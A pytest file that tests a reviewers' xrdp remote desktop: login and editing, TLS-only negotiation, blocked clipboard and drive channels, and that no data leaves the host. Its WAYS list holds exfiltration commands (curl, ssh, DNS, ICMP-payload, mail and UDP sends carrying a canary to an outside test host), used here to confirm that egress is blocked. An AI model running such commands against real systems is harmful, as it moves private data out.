"""The remote desktop of reviewers, with a real client: what they can do, and that nothing leaves."""

from __future__ import annotations

import shlex
import ssl
import subprocess
import time

import pytest

from sandbox.network import INTERNET
from tests.hosts.desktops import (
    CANARY,
    PASSWORD,
    SHOTS,
    WORK,
    as_gus,
    desktop_is_up,
    end_all,
    host_with_desktop,
    sessions_of,
)
from tests.hosts.managing import manage, rests
from tests.hosts.programs import wait_until
from tests.hosts.remote import judged, looking, negotiated, speaks_tls


pytestmark = pytest.mark.share("desktop")


@pytest.fixture(scope="module")
def host(shared_warm_host):
    return host_with_desktop(shared_warm_host)


# ---- who gets in


def test_a_reviewer_reads_edits_and_saves_what_a_job_wrote(host):
    """As a person does it: keys at the client. The screenshots are to be looked at."""
    SHOTS.mkdir(exist_ok=True)
    with looking(host, "gus", PASSWORD) as client:
        wait_until(lambda: desktop_is_up(host), 60)
        time.sleep(5)
        client.shot(SHOTS / "desktop.png")
        for name in ("study", "notes"):
            client.type(name)
            client.do("key", "Return")
            time.sleep(2)
        wait_until(lambda: host.run("pgrep -u gus mousepad", check=False).stdout, 30)
        time.sleep(3)
        client.do("key", "ctrl+End")
        client.type("reviewed")
        client.do("key", "ctrl+s")
        notes = f"{WORK}/study/notes.txt"
        wait_until(lambda: "reviewed" in host.read(notes), 30)
        client.shot(SHOTS / "edited.png")
        seen = host.run(as_gus("ls /srv/high_privacy"), check=False)
        assert "Permission denied" in seen.stderr
        logins = host.run(
            "for p in $(pgrep -u gus thunar); do cat /proc/$p/loginuid; done"
        )
        assert host.run("id -u gus").stdout.strip() in logins.stdout
    assert len(sessions_of(host)) == 1, "it goes on without a client"


# ---- what the client may ask for


def test_tls_alone_and_no_older_one(host):
    assert negotiated(host.address, 0)[0] != 2  # classic security
    assert negotiated(host.address, 2)[0] != 2  # NLA
    assert speaks_tls(host.address, ssl.TLSVersion.TLSv1_2)
    assert speaks_tls(host.address, ssl.TLSVersion.TLSv1_3)
    assert not speaks_tls(host.address, ssl.TLSVersion.TLSv1)
    assert not speaks_tls(host.address, ssl.TLSVersion.TLSv1_1)
    key = host.run("stat -c '%a %U %G' /etc/xrdp/opensafely.key").stdout
    assert key == "640 root xrdp\n"


READ = (
    "import gi; gi.require_version('Gtk','3.0'); from gi.repository import Gtk, Gdk; \
print(Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).wait_for_text())"
)
OWN = (
    f"import gi; gi.require_version('Gtk','3.0'); from gi.repository import Gtk, Gdk, GLib; \
Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).set_text('{CANARY}-out', -1); \
GLib.timeout_add_seconds(20, Gtk.main_quit); Gtk.main()"
)


def test_channels_are_dead_and_another_shell_is_ignored(host, tmp_path):
    (tmp_path / f"{CANARY}-drive").write_text("x")
    asked = (
        *("/sec:tls", "+clipboard", f"/drive:out,{tmp_path}", "/sound:sys:fake"),
        *("/printer:fake", "/shell:xfce4-terminal", "/dynamic-resolution"),
    )
    with looking(host, "gus", PASSWORD, *asked) as client:
        wait_until(lambda: desktop_is_up(host), 60)
        clip = ["xclip", "-selection", "clipboard"]
        subprocess.run(
            clip,
            input=f"{CANARY}-in".encode(),
            env=client.env,
            check=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(3)
        inside = host.run(as_gus(f"timeout 20 python3 -c {shlex.quote(READ)}")).stdout
        assert CANARY not in inside
        host.run(as_gus(f"timeout 25 python3 -c {shlex.quote(OWN)} >/dev/null 2>&1 &"))
        time.sleep(4)
        done = subprocess.run(
            [*clip, "-o"], env=client.env, capture_output=True, timeout=20, check=False
        )
        assert f"{CANARY}-in" in done.stdout.decode(), (
            "the client's own is still its own"
        )
        assert f"{CANARY}-out" not in done.stdout.decode()
        mounts = host.run(
            "grep -c thinclient /proc/mounts; ls -A /home/gus", check=False
        ).stdout
        assert mounts.startswith("0\n")
        assert (
            f"{CANARY}-drive"
            not in host.run(
                "find /home/gus /run/user -xdev 2>/dev/null", check=False
            ).stdout
        )
        assert "xfce4-session" in host.run("ps -u gus -o comm=").stdout
    end_all(host)


# ---- nothing is carried out

WAYS = (
    f"curl -sm3 http://{INTERNET}/{CANARY}",
    f"curl -sm3 http://[fd77::1]/{CANARY}",
    f"curl -sm3 http://127.0.0.1:9/{CANARY}",
    f"ssh -o ConnectTimeout=2 -o BatchMode=yes {CANARY}@{INTERNET}",
    f"getent hosts {CANARY}.example.org",
    f"python3 -c \"import socket; s=socket.socket(2,2); s.sendto(b'{CANARY}',('{INTERNET}',53))\"",
    f"ping -c1 -W1 -p {CANARY.encode().hex()[:24]} {INTERNET}",
    f"resolvectl query {CANARY}.example.org",
    f"busctl call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager ResolveHostname isit 0 {CANARY}.example.org 0 0",
    f"logger -n {INTERNET} {CANARY}",
    f"echo {CANARY} | mail -s {CANARY} root@{INTERNET}",
    f"unshare -Ur curl -sm3 http://{INTERNET}/{CANARY}",
)


def captured(host, commands):
    """How many packets of any interface have the canary in them, while these run."""
    host.run(
        "(timeout 60 tcpdump -i any -U -w /tmp/all.pcap >/dev/null 2>&1 &) ; sleep 1.5"
    )
    for command in commands:
        host.run(command, check=False)
    host.run("sleep 1; pkill tcpdump; sleep 0.3", check=False)
    found = host.run(f"grep -aoc -e {CANARY} /tmp/all.pcap", check=False).stdout
    return int(found)


def test_nothing_is_carried_out(host):
    assert captured(host, [WAYS[0], WAYS[4]]) > 0, "root's is seen: the capture works"
    assert captured(host, [as_gus(way) for way in WAYS]) == 0
    for unit in ("systemd-resolved.service", "avahi-daemon.service", "cups.socket"):
        assert "masked" in host.run(f"systemctl is-enabled {unit}", check=False).stdout


def test_it_is_all_there_after_a_reboot(host):
    host.reboot()
    assert captured(host, [as_gus(WAYS[0]), as_gus(WAYS[5])]) == 0
    assert host.run("nft list set inet opensafely reviewers").stdout.count("elements")
    assert judged(host, "gus", PASSWORD)
    end_all(host)


# ---- what is declared


def test_a_restart_waits_until_nobody_is_there(host):
    """And what a package's upgrade puts back is seen by the next plan."""
    assert judged(host, "gus", PASSWORD)
    main = "systemctl show --property=MainPID xrdp"
    before = host.run(main).stdout
    host.run("sed -i 's/cliprdr=false/cliprdr=true/' /etc/xrdp/xrdp.ini")
    assert manage(host, "plan --offline", backend="emis").returncode == 3
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert host.run(main).stdout == before
    assert "xrdp.service" in host.run("backend status", check=False).stdout
    end_all(host)
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert host.run(main).stdout != before
    assert judged(host, "gus", PASSWORD)
    end_all(host)
    assert rests(host, "emis", words="--offline")
